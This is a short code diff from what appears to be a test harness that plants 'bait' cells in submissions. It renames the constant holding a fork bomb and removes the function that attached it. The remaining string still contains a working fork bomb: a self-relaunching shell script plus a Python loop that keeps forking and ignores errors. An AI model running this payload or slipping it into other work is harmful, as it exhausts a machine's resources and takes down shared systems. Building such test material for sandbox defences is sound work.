@@ -1,6 +1,6 @@
 """Forks as fast as it can, in the shell and in Python, each child again, without a pause."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import os, subprocess
 
 open("bomb", "w").write("sh bomb & sh bomb & sh bomb &\nsh bomb")
@@ -13,7 +13,3 @@ while True:
     except OSError:
         pass
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
